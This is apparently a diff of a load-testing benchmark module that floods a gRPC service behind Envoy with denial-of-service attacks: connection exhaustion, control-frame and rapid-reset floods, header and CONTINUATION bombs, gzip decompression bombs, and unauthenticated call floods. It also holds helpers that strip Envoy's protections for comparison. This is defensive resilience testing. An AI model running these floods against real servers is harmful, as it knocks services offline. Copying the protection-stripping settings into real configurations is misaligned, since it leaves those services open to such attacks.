@@ -1,14 +1,15 @@
-"""Attacks by peers without a token: connections, frames and messages."""
+"""Attacks by peers without a token, who meet Envoy first: connections, frames, calls, messages."""
 
 from __future__ import annotations
 
 import asyncio
-import contextlib
 import gzip
+import http.client
+import socket
 import time
-import urllib.request
-from collections.abc import Awaitable, Callable, Sequence
-from itertools import cycle
+from collections.abc import Callable, Iterator
+from itertools import cycle, islice
+from typing import Any
 
 from h2.errors import ErrorCodes
 from h2.settings import SettingCodes
@@ -16,217 +17,191 @@ from hpack import Encoder
 from hyperframe.frame import (
     ContinuationFrame,
     DataFrame,
+    ExtensionFrame,
     Frame,
     HeadersFrame,
     PingFrame,
+    PriorityFrame,
     RstStreamFrame,
     SettingsFrame,
     WindowUpdateFrame,
 )
-from tokalign.load.connection import begun, grpc_headers
+from tokalign.load.connection import grpc_headers
 from tokalign.load.measure import METHODS
-from tokalign.load.peer import Peer, header_block, headers_frame, message
+from tokalign.load.peer import message
 
+from bench.attack.flood import PREFACE, Kind, flood, header_block, headers_frame
 from bench.attack.rows import Attack, row
+from deploy.loopback import filter_of, listener_of, manager_of
 
-N_CONNECTIONS = 100
-"""So many connections of one stranger are withstood."""
-N_AT_A_TIME = 100
 MIB = 1 << 20
 FRAME_BYTES = 16_384
-MORE_THAN_FILES = 1_200
-Frames = Callable[[Peer], bytes]
+CHECK = "/grpc.health.v1.Health/Check"
+ROUTES = (METHODS["align"], METHODS["batch"], CHECK, "/grpc.health.v1.Health/Watch", "/v1/align")
+ROUTES += ("/v1/models", "/ready", "/nothing", "/v1%2fmodels")
+KINDS = ("application/grpc", "application/grpc-web+proto", "application/grpc-web-text")
+KINDS += ("application/json", "text/plain", "")
 OTHERS = (
-    "every call of the caller is answered right, and the server grows by 64 MiB at most and "
-    "ends in order"
+    "every call of the caller is answered right, the server grows by 64 MiB at most, Envoy by 128, "
+    "and both end in order"
 )
+OLD = OTHERS.replace("every call of the caller is", "calls over the caller's old connection are")
+NO_END = "36000s"
 
 
-async def connections(attack: Attack, use: Callable[[int, Peer], Awaitable[None]]) -> None:
-    """Use connections side by side, each anew where the server closes it."""
-
-    async def one(number: int) -> None:
-        while True:
-            try:
-                peer = await Peer.open(attack.address, reads=number % 2 == 0)
-                attack.note("connections")
-            except (OSError, TimeoutError):
-                attack.note("connections refused")
-                await asyncio.sleep(0.1)
-                continue
-            with contextlib.suppress(ConnectionError):
-                await use(number, peer)
-            await peer.close()
-
-    await asyncio.gather(*(one(number) for number in range(N_CONNECTIONS)))
+async def floods(attack: Attack, kinds: list[Kind], n_connections: int) -> None:
+    """Flood, and note what was sent."""
+    counts = await asyncio.to_thread(
+        flood, attack.address, kinds, n_connections, attack.amounts.seconds
+    )
+    for what, count in counts.items():
+        attack.note(what, count)
 
 
-async def flood(attack: Attack, kinds: Sequence[Frames], n_at_a_time: int = N_AT_A_TIME) -> None:
-    """Send frames without a pause, every connection those of one kind.
-
-    Every second connection of a kind never reads.
-    """
-
-    async def use(number: int, peer: Peer) -> None:
-        make = kinds[number // 2 % len(kinds)]
-        while True:
-            await peer.send(b"".join(make(peer) for _ in range(n_at_a_time)))
-            attack.note("sent", n_at_a_time)
-            # The reader of this connection, and the other ones, come to turn.
-            await asyncio.sleep(0)
-
-    await connections(attack, use)
-
-
-async def raw(attack: Attack, first: bytes) -> asyncio.StreamWriter | None:
-    """Return a connection on which some bytes were sent, or None where it is refused."""
-    host, _, port = attack.address.rpartition(":")
-    try:
-        _, writer = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 5)
-        writer.write(first)
-        await writer.drain()
-    except (OSError, TimeoutError):
-        attack.note("connections refused")
-        return None
-    attack.note("connections")
-    return writer
+def no_timeouts(config: dict[str, Any]) -> None:
+    """Have silent connections stay."""
+    listener_of(config)["listener_filters_timeout"] = NO_END
+    manager_of(config)["common_http_protocol_options"]["idle_timeout"] = NO_END
 
 
 @row(
     "connections",
-    "Calls over the caller's old connection are answered right, /livez answers, and the server "
-    "grows by 64 MiB at most and ends in order.",
+    "While strangers begin connections, calls over the caller's old one are answered right; while "
+    "they hold more silent ones than Envoy takes, a new one is served within half a minute.",
     is_stranger=True,
-    max_files=1024,
     new_may_fail=True,
+    ends_itself=True,
+    without=no_timeouts,
 )
-async def new_connections(attack: Attack) -> None:
-    """Opens connections and hangs up, then holds more idle ones than the server may open files."""
-    stop = time.monotonic() + attack.amounts.seconds / 2
+async def connections(attack: Attack) -> None:
+    """Begins connections and hangs up, then holds 3,000 that say nothing, or half a line."""
+    churn = [Kind(b"", is_once=True), Kind(PREFACE[:12], is_once=True)]
+    await floods(attack, churn, 200)
+    host, _, port = attack.address.rpartition(":")
+    held = []
+    for first in islice(cycle((b"", PREFACE[:12])), 3000):
+        peer = socket.socket()
+        peer.settimeout(5)
+        held.append(peer)
+        try:
+            peer.connect((host, int(port)))
+            peer.sendall(first)
+            attack.note("held")
+        except OSError:
+            attack.note("refused")
+    late = time.monotonic() + 30
+    while not await asyncio.to_thread(_is_served, attack.address):
+        if time.monotonic() > late:
+            attack.expect(False, "no new connection was served within half a minute")
+            break
+        await asyncio.sleep(0.2)
 
-    async def churn() -> None:
-        while time.monotonic() < stop:
-            if writer := await raw(attack, b""):
-                writer.transport.abort()
 
-    await asyncio.gather(*(churn() for _ in range(32)))
-    opening = begun().data_to_send()
-    held = [
-        await asyncio.gather(*(raw(attack, first) for _ in range(N_AT_A_TIME)))
-        for _, first in zip(
-            range(MORE_THAN_FILES // N_AT_A_TIME), cycle((b"", opening[:12], opening)), strict=False
-        )
-    ]
-    attack.note("held", sum(writer is not None for some in held for writer in some))
+def _is_served(address: str) -> bool:
+    """Tell whether a new connection is."""
+    connection = http.client.HTTPConnection(address, timeout=5)
     try:
-        url = f"{attack.metrics_url}/livez"
-        answer = await asyncio.to_thread(urllib.request.urlopen, url, timeout=30)
-        answer.close()
-    except OSError as error:
-        attack.expect(False, f"/livez: {error}")
-    await asyncio.sleep(attack.amounts.seconds)
+        connection.request("GET", "/ready")
+        return connection.getresponse().status == 200
+    except (OSError, http.client.HTTPException):
+        return False
+    finally:
+        connection.close()
 
 
-@row("slow-writers", f"While 10,000 calls never get whole, {OTHERS}.", is_stranger=True)
-async def slow_writers(attack: Attack) -> None:
-    """Begins 100 calls on each connection: 3 bytes, all but the last byte, or one at a time."""
-    size = min(attack.request_bytes - 1024, 15 * MIB)
-    bodies = [message(bytes(n), announced=n + 1) for n in (size, 200)]
-    block = header_block(attack.address)
-
-    async def tiny(peer: Peer) -> None:
-        for _ in range(N_AT_A_TIME):
-            stream = await peer.call(block)
-            await peer.send(DataFrame(stream, bytes(3)).serialize())
-            attack.note("calls")
-
-    async def large(peer: Peer) -> None:
-        stream = await peer.call(block)
-        await peer.body(stream, bodies[0])
-        attack.note("calls")
-
-    async def drops(peer: Peer) -> None:
-        stream = await peer.call(block)
-        attack.note("calls")
-        for at in range(len(bodies[1])):
-            await peer.send(DataFrame(stream, bodies[1][at : at + 1]).serialize())
-            await asyncio.sleep(0.1)
-
-    async def use(number: int, peer: Peer) -> None:
-        await asyncio.sleep(0.2)  # the server's settings
-        if number // 2 % 2:
-            await tiny(peer)
-        else:
-            some = (drops if each % 10 == 0 else large for each in range(N_AT_A_TIME))
-            await asyncio.gather(*(begin(peer) for begin in some))
-        await asyncio.sleep(attack.amounts.seconds)
-
-    await connections(attack, use)
+def any_frames(config: dict[str, Any]) -> None:
+    """Have answers that nobody reads wait without a bound."""
+    options = manager_of(config)["http2_protocol_options"]
+    options["max_outbound_control_frames"] = 1_000_000_000
+    del listener_of(config)["per_connection_buffer_high_watermark_timeout"]
+    del config["overload_manager"]
 
 
 @row(
-    "rapid-reset",
-    f"While calls are begun and reset, {OTHERS}; without Envoy calls may also be cancelled, and "
-    "the server only stays within 512 MiB.",
+    "frames",
+    f"While millions of frames come that open no call, {OTHERS}, at most 50 times as slowly.",
     is_stranger=True,
-    may_get=frozenset({"CANCELLED"}),  # grpc has one queue for all calls
+    slower=50.0,
+    ends_itself=True,
+    without=any_frames,
 )
-async def rapid_reset(attack: Attack) -> None:
-    """Begins calls and resets them, makes the server reset them, and calls what does not exist."""
-    block = header_block(attack.address)
-    other = header_block(attack.address, "/tokalign.v1.AlignService/Nothing")
-
-    def reset(peer: Peer) -> bytes:
-        stream = peer.new_stream()
-        frame = RstStreamFrame(stream, error_code=ErrorCodes.CANCEL)
-        return headers_frame(stream, block) + frame.serialize()
-
-    def made_to_reset(peer: Peer) -> bytes:
-        # A window that grows by nothing is an error, for which the server resets the stream.
-        stream = peer.new_stream()
-        return headers_frame(stream, block) + WindowUpdateFrame(stream, 0).serialize()
-
-    def unknown(peer: Peer) -> bytes:
-        return headers_frame(peer.new_stream(), other, "END_STREAM")
-
-    await flood(attack, (reset, made_to_reset, unknown))
-
-
-@row("control-frames", f"While control frames come without a pause, {OTHERS}.", is_stranger=True)
-async def control_frames(attack: Attack) -> None:
-    """Sends PING, SETTINGS, acknowledgements and WINDOW_UPDATE, and on some never reads."""
-    frames = (
+async def frames(attack: Attack) -> None:
+    """Sends PING, SETTINGS, WINDOW_UPDATE, PRIORITY and unknown frames; half never read."""
+    each = (
         PingFrame(0, b"12345678"),
         SettingsFrame(0, {SettingCodes.INITIAL_WINDOW_SIZE: 65_535}),
         SettingsFrame(0, flags=["ACK"]),
         WindowUpdateFrame(0, 1),
+        PriorityFrame(1, depends_on=3, stream_weight=7),
+        ExtensionFrame(0xB, 0, body=b"unknown"),
     )
-    await flood(attack, [_always(frame.serialize()) for frame in frames])
+    kinds = [
+        Kind(PREFACE, (frame.serialize() * 4096,), reads=reads)
+        for frame in each
+        for reads in (True, False)
+    ]
+    await floods(attack, kinds, 240)
 
 
-def _always(data: bytes) -> Frames:
-    return lambda peer: data
+def _calls(blocks: list[bytes], make: Callable[[int, bytes], bytes]) -> bytes:
+    """Return 1,000 calls of a connection."""
+    return b"".join(
+        make(2 * index + 1, block) for index, block in zip(range(1000), cycle(blocks), strict=False)
+    )
 
 
-def _block_again(block: bytes) -> Frames:
-    """Return a function that begins a call, its header block in as many frames as it takes."""
+def any_resets(config: dict[str, Any]) -> None:
+    """Have nobody count resets, and take all calls of a connection in one turn."""
+    (layer,) = config["layered_runtime"]["layers"]
+    layer["static_layer"] = {"overload.premature_reset_total_stream_count": 1_000_000_000}
+    options = manager_of(config)["http2_protocol_options"]
+    options["max_concurrent_streams"] = 1_000_000
 
-    def begin(peer: Peer) -> bytes:
-        stream = peer.new_stream()
-        frames: list[Frame] = [HeadersFrame(stream, block[:FRAME_BYTES])]
-        for at in range(FRAME_BYTES, len(block), FRAME_BYTES):
-            frames.append(ContinuationFrame(stream, block[at : at + FRAME_BYTES]))
-        frames[-1].flags.add("END_HEADERS")
-        return b"".join(frame.serialize() for frame in frames)
 
-    return begin
+@row(
+    "resets",
+    f"While calls are begun and reset at once, {OLD}, at most 50 times as slowly.",
+    is_stranger=True,
+    ends_itself=True,
+    without=any_resets,
+    new_may_fail=True,
+    slower=50.0,
+)
+async def resets(attack: Attack) -> None:
+    """Resets calls, and makes Envoy reset them, as soon as they are begun."""
+    blocks = [header_block(attack.address, path) for path in ROUTES[:4]]
+
+    def reset(stream: int, block: bytes) -> bytes:
+        frame = RstStreamFrame(stream, error_code=ErrorCodes.CANCEL)
+        return headers_frame(stream, block) + frame.serialize()
+
+    def made_to_reset(stream: int, block: bytes) -> bytes:
+        # A window that grows by nothing is an error, for which the stream is reset.
+        return headers_frame(stream, block) + WindowUpdateFrame(stream, 0).serialize()
+
+    kinds = [
+        Kind(PREFACE, (_calls(blocks, make),), reads=reads, is_once=True)
+        for make in (reset, made_to_reset)
+        for reads in (True, False)
+    ]
+    await floods(attack, kinds, 240)
+
+
+def any_headers(config: dict[str, Any]) -> None:
+    """Take as many headers as can be set, by the library that decodes all of them."""
+    manager = manager_of(config)
+    manager["max_request_headers_kb"] = 8192
+    manager["common_http_protocol_options"]["max_headers_count"] = 1_000_000
+    manager["http2_protocol_options"]["use_oghttp2_codec"] = False
+    del config["overload_manager"]
 
 
 @row(
     "headers",
-    f"Behind Envoy, while headers are too long or too many, {OTHERS}.",
+    f"While headers are too long, too many, or without an end, {OTHERS}.",
     is_stranger=True,
-    needs_front=True,
+    ends_itself=True,
+    without=any_headers,
 )
 async def headers(attack: Attack) -> None:
     """Sends a field of 1 MiB, 20,000 fields, one field 10,000 times by its index, no end."""
@@ -235,10 +210,12 @@ async def headers(attack: Attack) -> None:
     def bomb(n_bytes: int) -> bytes:
         return Encoder().encode(fields + [(b"x-kept", b"k" * n_bytes)] * 10_000, huffman=False)
 
-    def endless(peer: Peer) -> bytes:
-        stream = peer.new_stream()
-        start = HeadersFrame(1, header_block(attack.address)).serialize() if stream == 1 else b""
-        return start + ContinuationFrame(1, bytes(FRAME_BYTES)).serialize()
+    def whole(block: bytes) -> bytes:
+        parts = [block[at : at + FRAME_BYTES] for at in range(0, len(block), FRAME_BYTES)]
+        made: list[Frame] = [HeadersFrame(1, parts[0])]
+        made += [ContinuationFrame(1, part) for part in parts[1:]]
+        made[-1].flags.add("END_HEADERS")
+        return b"".join(frame.serialize() for frame in made)
 
     blocks = (
         header_block(attack.address, more=[(b"x-large", b"l" * MIB)]),
@@ -246,23 +223,100 @@ async def headers(attack: Attack) -> None:
         bomb(3_900),
         bomb(1_000),
     )
-    await flood(attack, [*map(_block_again, blocks), endless], n_at_a_time=1)
+    kinds = [Kind(PREFACE + whole(block)) for block in blocks]
+    start = HeadersFrame(1, header_block(attack.address)).serialize()
+    kinds.append(Kind(PREFACE + start, (ContinuationFrame(1, bytes(FRAME_BYTES)).serialize(),)))
+    line = b"GET / HTTP/1.1\r\nhost: a\r\n"
+    kinds.append(Kind(line, (b"x-more: " + b"m" * 1000 + b"\r\n",)))
+    await floods(attack, kinds, 120)
 
 
-@row("compressed", f"While messages unpack to a thousandfold, {OTHERS}.", is_stranger=True)
-async def compressed(attack: Attack) -> None:
-    """Sends gzip messages that unpack to what the limit allows, to 31 MiB and to 256 MiB."""
-    block = header_block(attack.address, more=[(b"grpc-encoding", b"gzip")])
-    sizes = (attack.request_bytes - MIB, 31 * MIB, 256 * MIB)
-    bodies = [message(gzip.compress(bytes(size)), is_compressed=True) for size in sizes]
+def no_waiting(config: dict[str, Any]) -> None:
+    """Refuse strangers at once."""
+    filters = manager_of(config)["http_filters"]
+    filters.remove(filter_of(config, "envoy.filters.http.fault"))
 
-    async def use(number: int, peer: Peer) -> None:
-        await asyncio.sleep(0.2)  # the server's settings
-        for body in bodies:
-            stream = await peer.call(block)
-            # Of a call that is refused, windows may stay closed.
-            with contextlib.suppress(TimeoutError):
-                await asyncio.wait_for(peer.body(stream, body, end=True), 0.5)
-            attack.note("messages")
 
-    await connections(attack, use)
+@row(
+    "refused",
+    f"While strangers call as fast as they are refused, {OLD}, at most 50 times as slowly.",
+    is_stranger=True,
+    ends_itself=True,
+    without=no_waiting,
+    new_may_fail=True,
+    slower=50.0,
+)
+async def refused(attack: Attack) -> None:
+    """Calls every path with every content type and no token or a wrong one, over HTTP/1.1 and 2."""
+    kinds = [Kind(b"", (text * 16,)) for text in _http1_calls()]
+    kinds += [
+        Kind(PREFACE, bodies, is_once=True, answer=b"\x01\x05\0\0") for bodies in _http2(attack)
+    ]
+    await floods(attack, kinds, 400)
+
+
+def _http1_calls() -> Iterator[bytes]:
+    for number, (route, kind) in enumerate((r, k) for r in ROUTES for k in KINDS):
+        lines = [f"POST {route} HTTP/1.1", "host: a", "content-length: 0"]
+        if kind:
+            lines.append(f"content-type: {kind}")
+        if number % 2:
+            lines.append(f"authorization: Bearer {'wrong' * 90}")
+        yield "\r\n".join([*lines, "", ""]).encode()
+    for origin in ("http://localhost", "https://example.org"):
+        asked = f"origin: {origin}\r\naccess-control-request-method: POST"
+        yield f"OPTIONS /v1/align HTTP/1.1\r\nhost: a\r\n{asked}\r\n\r\n".encode()
+
+
+def _http2(attack: Attack) -> Iterator[tuple[bytes, ...]]:
+    """Yield the calls of connections: eight at once, and one for each that is answered."""
+    for token in ("", "wrong" * 90):
+        for route in ROUTES[:4]:
+            block = header_block(attack.address, route, token)
+            calls = [headers_frame(2 * n + 1, block, "END_STREAM") for n in range(5000)]
+            yield (b"".join(calls[:8]), *calls[8:])
+
+
+def no_refusal(config: dict[str, Any]) -> None:
+    """Hand strangers' calls to the server, and hold what they send of a health check."""
+    filters = manager_of(config)["http_filters"]
+    filters.remove(filter_of(config, "refuse"))
+    (host,) = manager_of(config)["route_config"]["virtual_hosts"]
+    for route in host["routes"]:
+        route.get("typed_per_filter_config", {}).pop("envoy.filters.http.buffer", None)
+    options = manager_of(config)["http2_protocol_options"]
+    options["max_concurrent_streams"] = 100
+    options["initial_connection_window_size"] = options["initial_stream_window_size"] = 16 * MIB
+    del config["overload_manager"]
+
+
+@row(
+    "messages",
+    "While messages never get whole, or unpack to a thousandfold, over all connections that Envoy "
+    f"takes, {OLD.replace('by 128', 'by 640')}.",
+    is_stranger=True,
+    new_may_fail=True,
+    front_mib=640,
+    ends_itself=True,
+    without=no_refusal,
+)
+async def messages(attack: Attack) -> None:
+    """Begins calls at every path whose messages stay unfinished, or are gzip of 31 and 256 MiB."""
+    gzipped = [(b"grpc-encoding", b"gzip")]
+    sent = [(message(bytes(32_000), announced=MIB), [])]
+    for n_mib in (31, 256):
+        bomb = gzip.compress(bytes(n_mib * MIB))
+        sent.append((message(bomb, is_compressed=True)[:32_000], gzipped))
+    kinds = []
+    for route in ROUTES[:5]:
+        for body, more in sent:
+            block = header_block(attack.address, route, more=more)
+            calls = [headers_frame(n, block) + _data(n, body) for n in range(1, 17, 2)]
+            kinds.append(Kind(PREFACE + b"".join(calls)))
+    await floods(attack, kinds, 1450)
+
+
+def _data(stream: int, body: bytes) -> bytes:
+    """Return a message in frames."""
+    parts = (body[at : at + FRAME_BYTES] for at in range(0, len(body), FRAME_BYTES))
+    return b"".join(DataFrame(stream, part).serialize() for part in parts)
